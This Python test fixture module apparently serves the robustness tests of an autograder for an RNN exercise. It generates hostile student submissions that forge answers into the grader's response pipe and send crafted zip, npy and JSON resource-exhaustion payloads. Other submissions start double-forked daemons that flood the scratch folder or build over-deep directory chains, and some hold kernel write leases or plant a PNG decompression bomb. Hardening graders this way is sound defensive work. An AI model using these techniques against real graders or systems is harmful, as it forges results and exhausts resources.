"""Hostile Exercise 1 submissions aimed at the trusted side, for test_robustness.py.

Each is the reference solution with one or more functions replaced. The replacements
write a forged answer straight into the pipe the grader reads (a student process can:
the pipe is its own), fill the scratch folder from a process that outlives the call, or
leave a process behind. Everything else in the file is correct, so a grader that survives
the attack loses the attacked function's points and no others.
"""

from __future__ import annotations

from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
EX1 = "ex_01_basic_rnn.py"

# Writes `header` and the zip `members` as one answer on the response pipe, found as the
# process's only pipe open for writing, then exits: the grader reads the forgery first.
FORGE = '''

import fcntl as _fcntl
import json as _json
import os as _os
import struct as _struct
import zlib as _zlib


def _answer_pipe():
    for name in _os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            link = _os.readlink(f"/proc/self/fd/{name}")
            flags = _fcntl.fcntl(fd, _fcntl.F_GETFL)
        except OSError:
            continue
        if link.startswith("pipe:") and flags & _os.O_ACCMODE == _os.O_WRONLY:
            return fd
    raise RuntimeError("no answer pipe")


def _npy(descr, shape, data=b""):
    """An .npy member, its header written exactly as np.save writes one."""
    text = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}".encode()
    text += b" " * (63 - (len(text) + 10) % 64) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + _struct.pack("<H", len(text)) + text + data


def _zip(members):
    """A stored zip of (name, bytes), written directly: 200,000 members in a second."""
    local, central, offset = [], [], 0
    for name, data in members:
        name, crc = name.encode(), _zlib.crc32(data)
        head = _struct.pack("<4sHHHHHIIIHH", b"PK\\x03\\x04", 20, 0, 0, 0, 0x21, crc,
                            len(data), len(data), len(name), 0) + name
        local.append(head + data)
        central.append(_struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\\x01\\x02", 20, 20, 0, 0, 0,
                                    0x21, crc, len(data), len(data), len(name), 0, 0, 0, 0,
                                    0, offset) + name)
        offset += len(head) + len(data)
    directory, n = b"".join(central), len(members)
    end = b""
    if n > 0xFFFF:  # zip64 end records, as zipfile writes them
        end = (_struct.pack("<4sQHHIIQQQQ", b"PK\\x06\\x06", 44, 45, 45, 0, 0, n, n,
                            len(directory), offset)
               + _struct.pack("<4sIQI", b"PK\\x06\\x07", 0, offset + len(directory), 1))
    end += _struct.pack("<4sHHHHIIH", b"PK\\x05\\x06", 0, 0, min(n, 0xFFFF), min(n, 0xFFFF),
                        len(directory), offset, 0)
    return b"".join(local) + directory + end


def _forge(header, members=(), head_bytes=None):
    body = _zip(members) if members else b""
    head = head_bytes if head_bytes is not None else _json.dumps(header).encode()
    fd = _answer_pipe()
    _os.set_blocking(fd, True)
    data = memoryview(_struct.pack("<Q", len(head)) + head + _struct.pack("<Q", len(body)) + body)
    try:
        while data:
            data = data[_os.write(fd, data):]
    finally:
        _os._exit(0)

_OK = {"ok": True, "result": {"nd": "a0"}, "mutations": []}
'''

# name -> the body of a replacement function that forges its answer.
ATTACKS = {
    # A zero-sized dtype passes `count * itemsize == bytes` with any shape.
    "void_dtype": '_forge(_OK, [("a0.npy", _npy("|V0", (10**18,)))])',
    # Tens of thousands of tiny arrays (within the size limit): work per array.
    "many_members": '_forge(_OK, [(f"a{i}.npy", _npy("<f8", (1,), bytes(8))) '
                    'for i in range(20_000)])',
    # 200,000 of them (46 MB): was 300 s for one test.
    "many_more_members": '_forge(_OK, [(f"a{i}.npy", _npy("<f8", (1,), bytes(8))) '
                         'for i in range(200_000)])',
    # Just under 16 MB of JSON that parses into millions of Python objects.
    "json_flood": '_forge(None, head_bytes=b\'{"ok": true, "mutations": [], "result": '
                  '{"list": [\' + b"{}," * ((16 * 2**20 - 200) // 3) + b"{}]}}")',
    # One legal array of just under 128 MB: read, loaded and copied.
    "large_body": '_forge(_OK, [("a0.npy", _npy("<f8", ((128 * 2**20 - 4096) // 8,), '
                  'bytes(128 * 2**20 - 4096)))])',
    # One 1 MB array referenced 50,000 times: each reference a copy.
    "reused_array": '_forge({"ok": True, "mutations": [], "result": {"list": [{"nd": "a0"}] '
                    '* 50_000}}, [("a0.npy", _npy("<f8", (2**17,), bytes(2**20)))])',
}

# A process that outlives the call and fills scratch/ (the student's only folder).
SCRATCH = '''

import os as _os


_started = set()


def _daemon(work, wait, name=None):
    """Run `work` in a grandchild in a session of its own (once per process and name),
    so that it outlives the call and the worker; `wait` seconds for it to get going."""
    name = name or work.__name__
    if name in _started:
        return
    _started.add(name)
    child = _os.fork()
    if child:
        _os.waitpid(child, 0)
        import time
        time.sleep(wait)
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    try:
        work()
    finally:
        _os._exit(0)


def _sleeper():
    _os.execv("/bin/sleep", ["sleep", "86399.25"])


def _in_scratch(work):
    """Run `work` in the scratch folder (TMPDIR), then come back."""
    here = _os.open(".", _os.O_RDONLY)
    try:
        _os.chdir(_os.environ.get("TMPDIR", "scratch"))
        work()
    finally:
        _os.fchdir(here)
        _os.close(here)


def _many_files(n, depth, tag):
    """n names of empty files spread over a chain of `depth` folders (hard links of one
    file per folder: a directory entry each, as a flood of files makes, but fast to make
    on any disk)."""
    def many_files():
        for level in range(depth):
            _os.mkdir(f"{tag}{level}")
            _os.chdir(f"{tag}{level}")
            open("f0", "wb").close()
            for i in range(1, n // depth):
                _os.link("f0", f"f{i}")
    many_files.__name__ = f"many_files_{tag}"
    return lambda: _in_scratch(many_files)


def _deep_chain(depth):
    def deep_chain():
        for _ in range(depth):
            _os.mkdir("d")
            _os.chdir("d")
        open("leaf", "wb").close()
    return lambda: _in_scratch(deep_chain)
'''

# name -> the body of a replacement function that starts a process outliving the call
# (once), then does what the reference does.
SCRATCH_ATTACKS = {
    # 12,000 files in a chain of 40 folders, made in the call, then a daemon that goes
    # on to 200,000 in a chain of 400 while the grader checks and cleans up.
    "many_files": "_many_files(12_000, 40, 'a')(); "
                  "_daemon(_many_files(200_000, 400, 'b'), wait=1, name='flood')",
    # A chain of 3000 folders: deeper than PATH_MAX, and than Python's recursion limit.
    "deep_chain": "_deep_chain(3000)()",
    # A process that only sleeps, with a marker on its command line (see leftovers()).
    "sleeper": "_daemon(_sleeper, wait=0)",
}
SLEEP_MARK = "86399.25"  # seconds; no other process sleeps for exactly this long

# Holds a write lease on the file the call wrote (the plot), so that another process's
# open() of it waits until the kernel breaks the lease: 45 s (lease-break-time) when the
# holder ignores the notice.
LEASE = '''

import fcntl as _fcntl
import os as _los
import signal as _signal

_leases = []


def _lease(path):
    _signal.signal(_signal.SIGIO, _signal.SIG_IGN)
    fd = _los.open(path, _los.O_RDWR)
    _fcntl.fcntl(fd, _fcntl.F_SETLEASE, _fcntl.F_WRLCK)
    _leases.append(fd)


def _png_bomb(path, side=8000):
    """A legal 16-bit RGBA PNG, side x side pixels (512 MB decoded), under 1 MB on disk,
    made in a second: one deflate block of 100 zero rows, repeated."""
    import struct
    import zlib

    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    rows = bytes(1 + side * 8) * 100
    pack = zlib.compressobj(6, zlib.DEFLATED, -15)
    block = pack.compress(rows) + pack.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(side // 100):
        check = zlib.adler32(rows, check)
    data = b"\\x78\\x9c" + block * (side // 100) + b"\\x03\\x00" + struct.pack(">I", check)
    head = struct.pack(">IIBBBBB", side, side, 16, 6, 0, 0, 0)
    with open(path, "wb") as fh:
        fh.write(b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data)
                 + chunk(b"IEND", b""))
'''

LEASE_ATTACKS = {
    # The plot functions take the path they write last.
    "lease": "out = _real(*args, **kwargs)\n    _lease(args[-1])\n    return out",
    # The plot replaced by an image that decodes to 512 MB.
    "png_bomb": "out = _real(*args, **kwargs)\n    _png_bomb(args[-1])\n    return out",
}


def reference() -> str:
    return (REPO / "solutions" / EX1).read_text()


def submission(folder: Path, attacks: dict[str, str]) -> Path:
    """Write the reference with functions replaced to `folder`/ex_01_basic_rnn.py:
    `attacks` maps a function name to an attack of ATTACKS or SCRATCH_ATTACKS. A scratch
    attack runs at the function's first call, which then returns the reference's answer."""
    source = reference()
    names = set(attacks.values())
    if names & set(ATTACKS):
        source += FORGE
    if names & set(SCRATCH_ATTACKS):
        source += SCRATCH
    if names & set(LEASE_ATTACKS):
        source += LEASE
    for func, name in attacks.items():
        if name in ATTACKS:
            source += f"\n\ndef {func}(*args, **kwargs):\n    {ATTACKS[name]}\n"
        elif name in LEASE_ATTACKS:
            source += (f"\n\ndef {func}(*args, _real={func}, **kwargs):\n"
                       f"    {LEASE_ATTACKS[name]}\n")
        else:
            source += (f"\n\ndef {func}(*args, _real={func}, **kwargs):\n"
                       f"    {SCRATCH_ATTACKS[name]}\n    return _real(*args, **kwargs)\n")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / EX1).write_text(source)
    return folder


def leftovers() -> list[int]:
    """Process ids of sleepers that SCRATCH_ATTACKS["sleeper"] started and nobody killed."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "cmdline").read_bytes().split(b"\0")[1:2] \
                    == [SLEEP_MARK.encode()]:
                found.append(int(entry.name))
        except OSError:
            continue
    return found
